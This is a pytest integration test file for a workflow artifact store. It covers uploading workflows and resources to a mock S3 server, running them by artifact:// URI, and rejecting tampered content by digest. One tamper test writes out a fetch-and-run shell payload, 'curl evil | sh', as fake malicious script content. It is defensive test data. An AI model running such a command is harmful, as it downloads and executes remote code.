"""The artifact store on the moto server, driven through the `imaging` command as a user runs it:
upload a workflow with its resources in one command, run it by artifact:// URI, and refuse
anything that does not match the digests the index recorded."""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml

from appliance import config as config_mod
from appliance.artifacts import ArtifactError, ArtifactRef, ArtifactStore
from appliance.store import Store, TaskState
from appliance.workflow import Engine
from tests.servers import REGION, TEST_ACCESS_KEY, TEST_SECRET_KEY, MotoServer

PREFIX = "wf-store"

WORKFLOW = {
    "name": "fix-script",
    "description": "Copy the script resource to dst, then run an operator helper workflow by name.",
    "params": {"dst": {"type": "string", "required": True}},
    "resources": {"script": "scripts/fix.sh"},
    "steps": [
        {
            "name": "copy",
            "action": "file.copy",
            "with": {"src": "{{ resources.script }}", "dst": "{{ dst }}"},
            "register": "copied",
        },
        {
            "name": "helper",
            "include": "echo-helper",
            "with": {"size": "{{ copied.bytes }}"},
            "register": "helper",
        },
    ],
}
HELPER = {
    "name": "echo-helper",
    "params": {"size": {"type": "integer", "required": True}},
    "steps": [{"name": "say", "action": "util.echo", "with": {"size": "{{ size }}"}, "register": "said"}],
}


@pytest.fixture
def bucket(moto: MotoServer) -> str:
    name = f"artifacts-{uuid.uuid4().hex[:12]}"
    moto.client("s3").create_bucket(Bucket=name)
    return name


@pytest.fixture
def settings(tmp_path: Path, moto: MotoServer, bucket: str) -> dict[str, Any]:
    helpers = tmp_path / "operator-workflows"
    helpers.mkdir()
    (helpers / "echo-helper.yaml").write_text(yaml.safe_dump(HELPER))
    return {
        "state_dir": str(tmp_path / "state"),
        "workflows": {"extra_dirs": [str(helpers)]},
        "artifacts": {
            "bucket": bucket,
            "prefix": PREFIX,
            "endpoint_url": moto.endpoint,
            "region": REGION,
            "access_key": TEST_ACCESS_KEY,
            "secret_key": TEST_SECRET_KEY,
        },
    }


@pytest.fixture
def cfg_file(tmp_path: Path, settings: dict[str, Any]) -> Path:
    path = tmp_path / "imaging.yaml"
    path.write_text(yaml.safe_dump(settings))
    return path


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    e = dict(os.environ)
    e.pop("IMAGING_CONFIG", None)
    e["XDG_STATE_HOME"] = str(tmp_path / "xdg")
    return e


@pytest.fixture
def workflow_file(tmp_path: Path) -> Path:
    """The workflow, and its script next to it at the relative path the workflow names."""
    d = tmp_path / "authoring"
    (d / "scripts").mkdir(parents=True)
    (d / "scripts" / "fix.sh").write_bytes(b"#!/bin/sh\necho fixed " + uuid.uuid4().hex.encode() + b"\n")
    path = d / "fix.yaml"
    path.write_text(yaml.safe_dump(WORKFLOW, sort_keys=False))
    return path


def imaging(cfg_file: Path, env: dict[str, str], *args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "appliance.cli", "-c", str(cfg_file), *map(str, args)],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def upload(cfg_file: Path, env: dict[str, str], wf: Path, *args: str | Path) -> str:
    r = imaging(cfg_file, env, "workflows", "upload", wf, *args)
    assert r.returncode == 0, r.stderr
    return r.stdout.strip()


def objects(moto: MotoServer, bucket: str) -> dict[str, bytes]:
    s3 = moto.client("s3")
    keys = [o["Key"] for o in s3.list_objects_v2(Bucket=bucket).get("Contents", [])]
    return {k: s3.get_object(Bucket=bucket, Key=k)["Body"].read() for k in keys}


def cached_digests(settings: dict[str, Any]) -> set[str]:
    d = Path(settings["state_dir"]) / "cache" / "sha256"
    return {p.name for p in d.iterdir()} if d.is_dir() else set()


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


# --- upload --------------------------------------------------------------------------------------


def test_upload_stores_workflow_resources_and_index_in_one_command(
    tmp_path: Path, cfg_file: Path, env: dict[str, str], workflow_file: Path, moto: MotoServer, bucket: str
) -> None:
    other = tmp_path / "elsewhere.sh"
    other.write_bytes(b"#!/bin/sh\necho from --resource\n")
    r = imaging(
        cfg_file, env, "workflows", "upload", workflow_file, "--resource", f"script={other}", "--json"
    )
    assert r.returncode == 0, r.stderr
    out = json.loads(r.stdout)
    assert re.fullmatch(r"artifact://fix-script@[0-9a-f]{12}", out["uri"])
    version = out["version"]
    stored = objects(moto, bucket)
    base = f"{PREFIX}/fix-script/{version}"
    assert set(stored) == {f"{base}/index.json", f"{base}/workflow.yaml", f"{base}/resources/script"}
    # the --resource file was uploaded, not the file at the workflow's relative path
    assert stored[f"{base}/resources/script"] == other.read_bytes()
    assert stored[f"{base}/workflow.yaml"] == workflow_file.read_bytes()
    index = json.loads(stored[f"{base}/index.json"])
    assert index["name"] == "fix-script" and index["version"] == version and index["created"]
    assert index["workflow"] == {
        "path": "workflow.yaml",
        "sha256": sha256(workflow_file.read_bytes()),
        "size": workflow_file.stat().st_size,
    }
    assert index["resources"] == {
        "script": {
            "path": "resources/script",
            "sha256": sha256(other.read_bytes()),
            "size": other.stat().st_size,
        }
    }


def test_upload_reports_every_missing_or_unknown_resource_and_uploads_nothing(
    tmp_path: Path, cfg_file: Path, env: dict[str, str], moto: MotoServer, bucket: str
) -> None:
    (tmp_path / "helper.yaml").write_text(yaml.safe_dump(HELPER))
    steps = [*WORKFLOW["steps"], {"name": "by-path", "include": "./helper.yaml", "with": {"size": 1}}]
    wf = dict(WORKFLOW, resources={"script": "scripts/fix.sh", "key": "keys/id.pub"}, steps=steps)
    path = tmp_path / "wf.yaml"
    path.write_text(yaml.safe_dump(wf))
    r = imaging(cfg_file, env, "workflows", "upload", path, "--resource", f"extra={path}")
    assert r.returncode == 1
    line = r.stderr.strip()
    assert line.startswith("imaging: Artifact.ResourceMissing: ")
    assert "'key' (keys/id.pub) is not given" in line and "--resource key=PATH" in line
    assert "'script' (scripts/fix.sh) is not given" in line
    assert "--resource extra: the workflow declares no resource 'extra'" in line
    assert "step 'by-path' includes './helper.yaml' by path, which the artifact would not hold" in line
    assert objects(moto, bucket) == {}


def test_upload_refuses_an_invalid_workflow(
    tmp_path: Path, cfg_file: Path, env: dict[str, str], moto: MotoServer, bucket: str
) -> None:
    wf = dict(WORKFLOW)
    wf["steps"] = [dict(WORKFLOW["steps"][0], **{"with": {"src": "{{ resources.scirpt }}", "dst": "/x"}})]
    path = tmp_path / "wf.yaml"
    path.write_text(yaml.safe_dump(wf))
    (tmp_path / "scripts").mkdir()
    (tmp_path / "scripts" / "fix.sh").write_text("x")
    r = imaging(cfg_file, env, "workflows", "upload", path)
    assert r.returncode == 1
    assert "WorkflowInvalid" in r.stderr and "undefined resource 'scirpt'" in r.stderr
    assert objects(moto, bucket) == {}


def test_versions_are_immutable_and_identical_reuploads_are_idempotent(
    cfg_file: Path, env: dict[str, str], workflow_file: Path, moto: MotoServer, bucket: str
) -> None:
    script = workflow_file.parent / "scripts" / "fix.sh"
    original = script.read_bytes()
    assert upload(cfg_file, env, workflow_file, "--version", "1.0") == "artifact://fix-script@1.0"
    before = objects(moto, bucket)
    again = imaging(cfg_file, env, "workflows", "upload", workflow_file, "--version", "1.0")
    assert again.returncode == 0 and again.stdout.strip() == "artifact://fix-script@1.0"
    assert "identical content" in again.stderr
    assert objects(moto, bucket) == before  # not even the index's created time changed

    script.write_bytes(b"#!/bin/sh\necho changed\n")
    r = imaging(cfg_file, env, "workflows", "upload", workflow_file, "--version", "1.0")
    assert r.returncode == 1
    assert r.stderr.startswith("imaging: Artifact.VersionExists: artifact://fix-script@1.0 already exists")
    assert objects(moto, bucket)[f"{PREFIX}/fix-script/1.0/resources/script"] == original

    # without --version the version follows the content: unchanged content, same URI
    first = upload(cfg_file, env, workflow_file)
    assert upload(cfg_file, env, workflow_file) == first
    script.write_bytes(original)
    assert upload(cfg_file, env, workflow_file) != first


def test_list_store_shows_each_version_with_created_time_and_resource_count(
    tmp_path: Path, cfg_file: Path, env: dict[str, str], workflow_file: Path
) -> None:
    upload(cfg_file, env, workflow_file, "--version", "1")
    plain = tmp_path / "plain.yaml"
    plain.write_text(yaml.safe_dump({"name": "plain", "steps": [{"name": "e", "action": "util.echo"}]}))
    upload(cfg_file, env, plain, "--version", "2024.1")
    r = imaging(cfg_file, env, "workflows", "list", "--store", "--json")
    assert r.returncode == 0, r.stderr
    listed = {(a["uri"], len(a["resources"])) for a in json.loads(r.stdout)}
    assert listed == {("artifact://fix-script@1", 1), ("artifact://plain@2024.1", 0)}
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", a["created"]) for a in json.loads(r.stdout))
    text = imaging(cfg_file, env, "workflows", "list", "--store").stdout
    assert re.search(r"^fix-script@1\s+\S+Z\s+1$", text, re.M)
    assert re.search(r"^plain@2024\.1\s+\S+Z\s+0$", text, re.M)


def test_list_store_skips_a_foreign_or_damaged_index_and_lists_the_rest(
    cfg_file: Path, env: dict[str, str], workflow_file: Path, moto: MotoServer, bucket: str
) -> None:
    upload(cfg_file, env, workflow_file, "--version", "1")
    s3 = moto.client("s3")
    s3.put_object(Bucket=bucket, Key=f"{PREFIX}/junk/1/index.json", Body=b"not json")
    s3.put_object(Bucket=bucket, Key=f"{PREFIX}/other/2/index.json", Body=b'{"unrelated": true}')
    r = imaging(cfg_file, env, "workflows", "list", "--store", "--json")
    assert r.returncode == 0, r.stderr
    assert [a["uri"] for a in json.loads(r.stdout)] == ["artifact://fix-script@1"]
    assert f"{PREFIX}/junk/1/index.json" in r.stderr and "Artifact.IndexInvalid" in r.stderr
    assert f"{PREFIX}/other/2/index.json" in r.stderr


# --- run ------------------------------------------------------------------------------------------


def test_run_artifact_round_trip_delivers_the_resource_and_records_the_uri(
    tmp_path: Path, cfg_file: Path, env: dict[str, str], workflow_file: Path, settings: dict[str, Any]
) -> None:
    uri = upload(cfg_file, env, workflow_file)
    dst = tmp_path / "out.sh"
    r = imaging(cfg_file, env, "run", uri, "-p", f"dst={dst}", "--progress", "none", "--json")
    assert r.returncode == 0, r.stderr
    task = json.loads(r.stdout)
    assert task["state"] == "completed"
    assert task["workflow"] == uri  # a resumed task loads the same artifact again
    script = workflow_file.parent / "scripts" / "fix.sh"
    assert dst.read_bytes() == script.read_bytes()
    # the included operator workflow (by name) ran with the copy's size
    assert task["result"]["copied"]["bytes"] == script.stat().st_size
    assert task["result"]["helper"]["said"] == {"size": script.stat().st_size}
    # what the step read was the verified, read-only cached file
    with Store(Path(settings["state_dir"]) / "imaging.db") as store:
        src = store.step_results(task["id"])[0].args["src"]
    assert Path(src).parent.name == "sha256" and Path(src).name == sha256(script.read_bytes())
    assert Path(src).stat().st_mode & 0o777 == 0o444


def test_second_run_reads_nothing_from_the_store(
    tmp_path: Path,
    cfg_file: Path,
    env: dict[str, str],
    workflow_file: Path,
    settings: dict[str, Any],
    moto: MotoServer,
    bucket: str,
) -> None:
    uri = upload(cfg_file, env, workflow_file)
    first = imaging(cfg_file, env, "run", uri, "-p", f"dst={tmp_path / 'a'}", "--progress", "none")
    assert first.returncode == 0, first.stderr
    s3 = moto.client("s3")
    for key in objects(moto, bucket):
        s3.delete_object(Bucket=bucket, Key=key)
    assert objects(moto, bucket) == {}
    # the .../workflow.yaml form names the same artifact
    second = imaging(
        cfg_file,
        env,
        "run",
        f"{uri}/workflow.yaml",
        "-p",
        f"dst={tmp_path / 'b'}",
        "--progress",
        "none",
        "--json",
    )
    assert second.returncode == 0, second.stderr
    assert (tmp_path / "b").read_bytes() == (workflow_file.parent / "scripts" / "fix.sh").read_bytes()
    with Store(Path(settings["state_dir"]) / "imaging.db") as store:
        events = [
            e for e in store.events(task_id=json.loads(second.stdout)["id"]) if e.kind == "resources.fetched"
        ]
    assert [r["cached"] for r in events[0].data["resources"]] == [True]


def test_tampered_resource_fails_the_task_with_digest_mismatch_and_caches_nothing(
    tmp_path: Path,
    cfg_file: Path,
    env: dict[str, str],
    workflow_file: Path,
    settings: dict[str, Any],
    moto: MotoServer,
    bucket: str,
) -> None:
    uri = upload(cfg_file, env, workflow_file)
    version = ArtifactRef.parse(uri).version
    evil = b"#!/bin/sh\ncurl evil | sh\n"
    moto.client("s3").put_object(
        Bucket=bucket, Key=f"{PREFIX}/fix-script/{version}/resources/script", Body=evil
    )
    dst = tmp_path / "out.sh"
    r = imaging(cfg_file, env, "run", uri, "-p", f"dst={dst}", "--progress", "none", "--json")
    assert r.returncode == 3, r.stderr
    task = json.loads(r.stdout)
    assert task["state"] == "failed"
    assert task["error_code"] == "Artifact.DigestMismatch"
    assert "resources.script" in task["error_message"] and sha256(evil) in task["error_message"]
    assert not dst.exists()
    assert sha256(evil) not in cached_digests(settings)
    assert not list((Path(settings["state_dir"]) / "cache" / "tmp").iterdir())  # no partial download left
    with Store(Path(settings["state_dir"]) / "imaging.db") as store:
        assert store.step_results(task["id"]) == []  # refused before the first step


def test_tampered_workflow_is_refused_before_a_task_exists(
    tmp_path: Path,
    cfg_file: Path,
    env: dict[str, str],
    workflow_file: Path,
    settings: dict[str, Any],
    moto: MotoServer,
    bucket: str,
) -> None:
    uri = upload(cfg_file, env, workflow_file)
    version = ArtifactRef.parse(uri).version
    evil = workflow_file.read_text().replace("file.copy", "util.echo").encode()
    moto.client("s3").put_object(Bucket=bucket, Key=f"{PREFIX}/fix-script/{version}/workflow.yaml", Body=evil)
    r = imaging(cfg_file, env, "run", uri, "-p", f"dst={tmp_path / 'o'}", "--progress", "none")
    assert r.returncode == 1
    assert r.stderr.startswith("imaging: Artifact.DigestMismatch: ")
    assert sha256(evil) in r.stderr and sha256(workflow_file.read_bytes()) in r.stderr
    assert sha256(evil) not in cached_digests(settings)
    with Store(Path(settings["state_dir"]) / "imaging.db") as store:
        assert store.list_tasks() == []


def test_unknown_artifact_and_unconfigured_store_are_coded_errors(
    tmp_path: Path, settings: dict[str, Any]
) -> None:
    cfg = config_mod.from_dict(settings, base_dir=tmp_path)
    engine = Engine(cfg)
    with pytest.raises(ArtifactError) as missing:
        engine.load("artifact://nothing-here@1")
    assert missing.value.code == "Artifact.NotFound"
    bare = Engine(config_mod.from_dict({"state_dir": str(tmp_path / "bare")}))
    with pytest.raises(ArtifactError) as unconfigured:
        bare.load("artifact://fix-script@1")
    assert unconfigured.value.code == "Artifact.NotConfigured"
    assert "artifacts.bucket" in unconfigured.value.message


def test_a_task_submitted_by_uri_runs_in_another_engine_from_the_cached_index(
    tmp_path: Path, settings: dict[str, Any], workflow_file: Path
) -> None:
    """What a worker does: load the task's recorded workflow (the artifact URI) in a fresh engine."""
    cfg = config_mod.from_dict(settings, base_dir=tmp_path)
    loader_engine = Engine(cfg)
    store = ArtifactStore.from_config(cfg)
    result = store.upload(
        "fix-script", workflow_file, {"script": workflow_file.parent / "scripts" / "fix.sh"}, version="7"
    )
    assert result.uploaded and result.index.uri == "artifact://fix-script@7"
    dst = tmp_path / "copied"
    task_id = loader_engine.submit("artifact://fix-script@7", {"dst": str(dst)})
    assert loader_engine.store.get_task(task_id).workflow == "artifact://fix-script@7"
    loader_engine.close()
    worker = Engine(cfg)
    try:
        task = worker.run(task_id)
    finally:
        worker.close()
    assert task.state is TaskState.COMPLETED, task.error_message
    assert dst.read_bytes() == (workflow_file.parent / "scripts" / "fix.sh").read_bytes()


def test_dry_run_of_an_artifact_plans_its_resources_without_downloading_them(
    tmp_path: Path, settings: dict[str, Any], workflow_file: Path
) -> None:
    cfg = config_mod.from_dict(settings, base_dir=tmp_path)
    script = workflow_file.parent / "scripts" / "fix.sh"
    ArtifactStore.from_config(cfg).upload("fix-script", workflow_file, {"script": script}, version="3")
    engine = Engine(cfg)
    plan = engine.plan("artifact://fix-script@3", {"dst": str(tmp_path / "never")})
    assert plan["resources"] == [
        {
            "workflow": "fix-script",
            "name": "script",
            "kind": "artifact",
            "uri": "artifact://fix-script@3/resources/script",
            "sha256": sha256(script.read_bytes()),  # known from the index, which the plan needed anyway
            "cached": False,
        }
    ]
    assert plan["steps"][0]["args"]["src"] == "<resource 'script'>"
    # only the workflow itself was fetched (to plan it at all); the resource was not
    assert cached_digests(settings) == {sha256(workflow_file.read_bytes())}
    assert not (tmp_path / "never").exists()
